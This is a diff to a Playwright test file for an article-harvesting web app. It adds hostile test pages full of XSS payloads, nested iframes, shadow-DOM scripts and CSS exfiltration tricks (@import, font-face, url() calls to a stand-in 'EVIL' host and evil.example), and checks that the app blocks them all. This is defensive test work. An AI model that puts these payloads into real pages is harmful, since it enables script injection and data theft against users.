@@ -61,7 +61,43 @@ const ATTACKS: Readonly<Record<string, readonly [head: string, body: string]>> =
      <img src="//EVILHOST/scheme-less"><area href="javascript:top.hacked=1"><bgsound src="EVIL/bg"><input type="image" src="EVIL/ii">`,
   ],
 }
-const NAMES = Object.keys(ATTACKS)
+const MORE: typeof ATTACKS = {
+  embedding: [
+    `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'"><meta http-equiv="x-dns-prefetch-control" content="on">
+     <meta name="referrer" content="unsafe-url"><link rel="preload" as="script" href="EVIL/pl"><link rel="manifest" href="EVIL/manifest">
+     <link rel="alternate stylesheet" href="EVIL/alt.css"><link rel="prerender" href="EVIL/pr"><link rel="search" href="EVIL/os">
+     <script type="speculationrules">{"prefetch":[{"source":"list","urls":["EVIL/sr"]}]}</script><script type="importmap">{}</script>`,
+    `<iframe name="top" srcdoc="&lt;iframe srcdoc=&quot;&amp;lt;script&amp;gt;top.hacked=1&amp;lt;/script&amp;gt;&quot;&gt;&lt;/iframe&gt;"></iframe>
+     <object data="data:text/html,<script>top.hacked=1</script>" type="text/html"><embed src="EVIL/e2" type="image/svg+xml"></object>
+     <div><template shadowrootmode="open"><script>${EVIL}</script><img src="EVIL/shadow"></template></div><fencedframe></fencedframe>
+     <svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><style>@import "EVIL/fo.css"; * { background: url(EVIL/fo) }</style>
+     <iframe srcdoc="x"></iframe><form action="EVIL/fof"><button id="svg-form">x</button></form></body></foreignObject><feImage href="EVIL/fe"/></svg>
+     <video poster="EVIL/poster" autoplay></video><audio src="EVIL/audio" autoplay></audio><track src="EVIL/track">`,
+  ],
+  links: [
+    '<base target="_parent">',
+    `<a href="EVIL/ping" ping="EVIL/pinged" id="ping">x</a><a href="EVIL/file" download="x.html" id="download">x</a>
+     <a href="data:application/octet-stream,x" download="x.exe" id="download2">x</a><a href="EVIL/parent" target="_parent" id="parent">x</a>
+     <img usemap="#m" src="EVIL/map"><map name="m"><area shape="default" href="EVIL/area" target="_top" id="area"></map>
+     <a href="EVIL/opener" target="webmars" rel="opener" id="opener">x</a><a href="vbscript:x" id="vb">x</a><a href="blob:EVIL/1" id="blob">x</a>
+     <button popovertarget="pop" id="pops" formaction="EVIL/pop">x</button><div popover id="pop" onbeforetoggle='${EVIL}'>y</div>
+     <p draggable="true" ondragstart='${EVIL}' id="dragged">Drag <a href="EVIL/dragged">this link</a></p><div contenteditable onfocus='${EVIL}' autofocus>z</div>`,
+  ],
+  exfiltration: [
+    `<style>@import/**/url("EVIL/x1.css");@IMPORT 'EVIL/x2.css';@charset "utf-8";@namespace url(EVIL/ns);
+     @font-face { font-family: leak; src: local("none"), url("EVIL/font?a"); unicode-range: U+61 } @font-face { font-family: l2; src:url(EVIL/f2)format("woff2") }
+     [data-node="1"] { background: url(EVIL/node1) } [data-text] { --x: url(EVIL/var); background-image: var(--x) } *{font-family:leak,l2}
+     :root { background: cross-fade(url(EVIL/cf), url(EVIL/cf2), 50%) } p::before { content: url('EVIL/a)b') } li { list-style: url(EVIL/ls) }
+     h1 { mask: url(EVIL/mask#m); filter: url(EVIL/filter#f); clip-path: url(EVIL/clip#c); shape-outside: url(EVIL/shape); border-image: url(EVIL/bi) 1 }
+     @supports (background: url(EVIL/sup)) { p { background: src("EVIL/src") } } @layer a { p { offset-path: url(EVIL/path) } }
+     @property --p { syntax: "<url>"; inherits: true; initial-value: url(EVIL/prop) } @keyframes k { to { background: url(EVIL/key) } } p { animation: k 1ms }
+     html::-webkit-scrollbar { background: url(EVIL/sb) } ::selection { background: url(EVIL/sel) } ::marker { content: url(EVIL/mk) }</style>`,
+    `<p style="background:u\\72
+l(EVIL/broken)">a</p><p style="--y:url(EVIL/inline);background:var(--y)">b</p><p id="webmars-style" title="taken">c</p><input type="password" value="secret"><ul><li>d</ul>`,
+  ],
+}
+const PAGES = { ...ATTACKS, ...MORE }
+const NAMES = Object.keys(PAGES)
 /** The number of the article of 10 MB. */
 const LARGE = NAMES.length
 const INJECTED = '<img src=x onerror=alert(1)><script>top.hacked=1</script><svg onload=alert(2)>'
@@ -83,7 +119,7 @@ const escaped = (text: string): string =>
 const title = (i: number): string => `Invented finding number ${i} about the ${NAMES[i] ?? 'large'} of tidal pools`
 
 function articlePage(i: number): string {
-  const [head, body] = ATTACKS[NAMES[i] ?? ''] ?? ['', `<p>${'and on it goes, '.repeat(163)}</p>`.repeat(4000)]
+  const [head, body] = PAGES[NAMES[i] ?? ''] ?? ['', `<p>${'and on it goes, '.repeat(163)}</p>`.repeat(4000)]
   const named = i === 0 ? `${title(i)} ${INJECTED}` : title(i)
   const author = i === 0 ? `Ann ${INJECTED} Doe` : 'Ann Doe'
   const html = `<!DOCTYPE html><html><head><title>${escaped(named)}</title>
@@ -143,6 +179,7 @@ async function harvested(): Promise<StoredArticle[]> {
 async function watched(of: Browser): Promise<Tab> {
   const context = await of.newContext({ viewport: { width: 1280, height: 900 } })
   const page = await context.newPage()
+  await page.addInitScript(`window.heard = []; addEventListener('message', event => heard.push(event.data))`)
   context.on('page', opened => seen.push(`opened ${opened.url()}`))
   page.on('dialog', dialog => {
     seen.push(`dialog ${dialog.message()}`)
@@ -171,10 +208,18 @@ async function unharmed(): Promise<void> {
   expect([...evil.requests.keys()]).toEqual([])
   expect(seen.splice(0)).toEqual([])
   expect(await tab.evaluate('window.hacked')).toBeUndefined()
+  expect(await tab.evaluate('window.heard')).toEqual([])
+  expect(await tab.evaluate('window.name')).toBe('')
+  expect(tab.frames().filter(each => (each.parentFrame()?.parentFrame() ?? null) !== null)).toEqual([])
   expect(new URL(tab.url()).origin).toBe(new URL(desk.url).origin)
   expect(await tab.title()).not.toBe('hacked')
   expect(await tab.context().cookies()).toEqual([])
 }
+
+const CLICKED = (
+  'submit button outside top new js js2 data svg-link svg-form ' +
+  'ping download download2 parent area opener vb blob pops dragged'
+).split(' ')
 
 test.each(NAMES.map((name, i) => [name, i] as const))(
   '%s in a page do nothing, looked at and clicked',
@@ -182,7 +227,7 @@ test.each(NAMES.map((name, i) => [name, i] as const))(
     await show(i)
     await unharmed()
     const frame = tab.frameLocator('iframe')
-    for (const id of ['submit', 'button', 'outside', 'top', 'new', 'js', 'js2', 'data', 'svg-link'])
+    for (const id of CLICKED)
       if ((await frame.locator(`#${id}`).count()) > 0) await frame.locator(`#${id}`).dispatchEvent('click')
     for (const element of await frame
       .locator('span[data-link], [data-node]')
@@ -193,6 +238,45 @@ test.each(NAMES.map((name, i) => [name, i] as const))(
   },
   PATIENCE,
 )
+
+test(
+  'what is dragged onto the desk, out of the page or from elsewhere, leads nowhere',
+  async () => {
+    await show(NAMES.indexOf('links'))
+    // Nothing in the page can be picked up as a link or by its own wish ...
+    const draggable = `document.querySelector('iframe').contentDocument.querySelectorAll('[href], [draggable], [src^=http]')`
+    expect(await tab.evaluate(`${draggable}.length`)).toBe(0)
+    // ... and what is let fall on the desk, a file or a link of another window, is not opened in its place.
+    await tab.evaluate(`(() => {
+      const file = new DataTransfer()
+      file.items.add(new File(['<script>1</script>'], 'x.html', { type: 'text/html' }))
+      const link = new DataTransfer()
+      link.setData('text/uri-list', 'http://evil.example/')
+      for (const dataTransfer of [file, link])
+        for (const name of ['dragover', 'drop'])
+          for (const goal of ['header', 'main h1']) {
+            const event = new DragEvent(name, { dataTransfer, bubbles: true, cancelable: true })
+            document.querySelector(goal).dispatchEvent(event)
+            if (!event.defaultPrevented) heard.push(name + ' on ' + goal + ' is left to the browser')
+          }
+    })()`)
+    await unharmed()
+    await tab.locator('#field-title textarea').waitFor()
+  },
+  PATIENCE,
+)
+
+/** The marks of the desk are its own, whatever ids and attributes a page has. */
+test('a page cannot take the place of the desk’s outlines', async () => {
+  await show(NAMES.indexOf('exfiltration'))
+  await tab.locator('#field-title').focus()
+  const frame = tab.frameLocator('iframe')
+  await frame.locator('[data-webmars-active]').first().waitFor()
+  const outline = await tab.evaluate(
+    `getComputedStyle(document.querySelector('iframe').contentDocument.querySelector('[data-webmars-active]')).outlineStyle`,
+  )
+  expect(outline).toBe('solid')
+})
 
 /** Worse than any page can make it: the markup itself, in every field that people read. */
 async function injectEverywhere(article: string): Promise<void> {
@@ -218,13 +302,27 @@ async function injectEverywhere(article: string): Promise<void> {
   }
 }
 
+/** A publication list that tries all of it, its records full of markup. */
+async function hostileList(): Promise<string> {
+  const [heads, bodies] = [0, 1].map(part => Object.values(PAGES).map(attack => attack[part]))
+  const records = [1, 2, 3].map(
+    i =>
+      `<li>Doe A, Roe B. ${escaped(INJECTED)} Invented finding ${i} about tidal pools. J Invent Ecol. 201${i};12(3):45-5${i}.</li>`,
+  )
+  const html = `<head>${heads!.join('')}</head><h1>Publications</h1><ol>${records.join('')}</ol>${bodies!.join('')}`
+  const file = { name: 'list.html', bytes: Buffer.from(html.replaceAll('EVIL', evil.url)) }
+  return (await deskMeans({ store, data, allowPrivate: true }).readListFile(file)).id
+}
+
 test(
   'HTML in titles and names is text on every page of the desk',
   async () => {
     const [harvest] = await store.listHarvests()
     const article = articles[0]!.id
     await injectEverywhere(article)
-    for (const place of [`issue/${harvest!.id}`, `record/${article}`, `export/${harvest!.id}`, 'statistics', '']) {
+    const list = await hostileList()
+    const places = [`issue/${harvest!.id}`, `record/${article}`, `export/${harvest!.id}`, 'statistics', '', 'lists']
+    for (const place of [...places, `list/${list}`, `export-list/${list}`, 'journals']) {
       await tab.evaluate(`location.hash = '#/${place}'`)
       await tab.locator('main h1').first().waitFor()
       await tab.waitForTimeout(600) // what was injected would have run by then
